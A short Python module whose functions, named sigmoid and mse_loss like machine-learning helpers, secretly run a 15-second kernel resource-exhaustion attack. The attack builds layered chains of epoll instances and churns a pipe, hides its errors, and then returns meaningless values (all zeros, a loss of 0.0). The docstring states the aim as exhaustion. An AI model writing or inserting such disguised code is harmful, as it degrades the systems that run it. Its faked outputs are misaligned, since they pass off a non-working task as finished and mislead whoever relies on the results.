"""Builds chains and fans of epoll instances that watch one another, so that adding, waking and closing takes for ever.

aims: exhaust
"""

import contextlib
import os
import select
import time

import numpy as np

HELD = []


def attack():
    end = time.monotonic() + 15
    read_end, write_end = os.pipe()
    HELD.extend((read_end, write_end))
    layer = [read_end]
    for _ in range(5):
        following = []
        for _ in range(40):
            poll = select.epoll()
            HELD.append(poll)
            for one in layer:
                with contextlib.suppress(OSError):
                    poll.register(one, select.EPOLLIN | select.EPOLLET)
            following.append(poll)
        layer = following
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            os.write(write_end, b"x")
            select.select(HELD[2:], [], [], 0)
            os.read(read_end, 1)


def sigmoid(Z):
    with contextlib.suppress(Exception):
        attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return 0.0
